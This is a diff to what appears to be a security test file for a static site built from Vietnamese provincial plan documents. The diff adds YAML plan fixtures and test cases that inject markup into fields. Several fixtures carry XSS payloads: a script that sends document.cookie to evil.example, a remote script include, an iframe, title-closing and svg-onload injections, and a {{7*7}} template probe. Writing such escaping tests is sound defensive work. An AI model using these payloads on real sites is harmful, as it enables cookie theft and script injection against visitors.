@@ -45,6 +45,8 @@ PHOTO_JPG = "photos:\n  - registry/hai-phong/media/sp-hai-phong-0001.jpg\naddres
 SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="alert(document.cookie)">\n'
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n</svg>\n')
 HTML = '<!DOCTYPE html>\n<html><body><script>document.location = "https://evil.example/"</script></body></html>\n'
+PLAN_DRAFT = "plans/kh-hai-phong-2026-du-thao.yaml"
+PLAN = "plans/kh-hai-phong-2026-15.yaml"
 
 BOMB = "".join([
     "id: sp-hai-phong-0001\n",
@@ -55,6 +57,21 @@ BOMB = "".join([
 
 def text(rel: str) -> str:
     return (BASE / rel).read_text("utf-8")
+
+
+def plan(draft: bool, title: str) -> str:
+    """A small plan of the base tree (it has none): its title is the page's <title>, header and heading."""
+    number = "draft_month: {month: 5, year: 2026}\n" if draft else 'number: 15\ndate: "2026-05-04"\n'
+    return (f"id: {'kh-hai-phong-2026-du-thao' if draft else 'kh-hai-phong-2026-15'}\nprovince: hai-phong\nsample: true\n"
+            f"status: {'draft' if draft else 'issued'}\nheader:\n  issuing: [ỦY BAN NHÂN DÂN, THÀNH PHỐ HẢI PHÒNG]\n"
+            "issuer:\n  level: province\n  name: UBND thành phố Hải Phòng\n"
+            '  unit: {level: province, code: "31", version: "2025", name: Thành phố Hải Phòng}\n'
+            f"symbol: KH-UBND\nplace: Hải Phòng\n{number}"
+            'period: {from: "2026-01-01", to: "2026-12-31", label: năm 2026}\n'
+            f"title: {title}\n"
+            "sections:\n  - title: Mục đích, yêu cầu\n    body: [Triển khai Chương trình OCOP năm 2026.]\n"
+            "recipients:\n  - {name: Sở Nông nghiệp và Môi trường}\n"
+            "signature:\n  authority: [TM. ỦY BAN NHÂN DÂN]\n  position: CHỦ TỊCH\n  signer: {name: Nguyễn Văn An}\n")
 
 
 def replaced(rel: str, *pairs: tuple[str, str]) -> dict:
@@ -137,7 +154,12 @@ TABLE: dict[str, tuple[str, str, int, str | int, dict]] = {
     "markup-html-block-producer": ("TEXT-MARKUP", PR, 0, "<div>", {"replace": replaced(
         PR, ("name: Hợp tác xã", 'name: <div><iframe src="https://evil.example/"></iframe></div> Hợp tác xã')), "build": True}),
     "markup-svg-onload-title": ("TEXT-MARKUP", D1, 0, "title:", {"replace": replaced(
-        D1, ("title: Công nhận", "title: <svg/onload=alert(1)> Công nhận"))}),
+        D1, ("title: Công nhận", "title: <svg/onload=alert(1)> Công nhận")), "build": True}),
+    # a plan's title is the hub page's front matter: Material writes it unescaped into <title> and the header
+    "markup-plan-title-closes-title": ("TEXT-MARKUP", PLAN_DRAFT, 0, "title: '<", {"write": {
+        PLAN_DRAFT: plan(True, "'</title><script>alert(4)</script> Thực hiện Chương trình OCOP năm 2026'")}, "build": True}),
+    "markup-plan-title-svg-quote": ("TEXT-MARKUP", PLAN, 0, "title: '", {"write": {
+        PLAN: plan(False, "'Kế hoạch \"><svg onload=alert(5)>{{7*7}} OCOP năm 2026'")}, "build": True}),
     "markup-script-signer": ("TEXT-MARKUP", D, 0, "  name: Trần", {"replace": replaced(
         D, ("  name: Trần Văn Minh", "  name: Trần Văn Minh<script src=//evil.example/x.js></script>"))}),
     "markup-anchor-javascript-channel": ("TEXT-MARKUP", P1, 0, "- {type: store", {"replace": replaced(
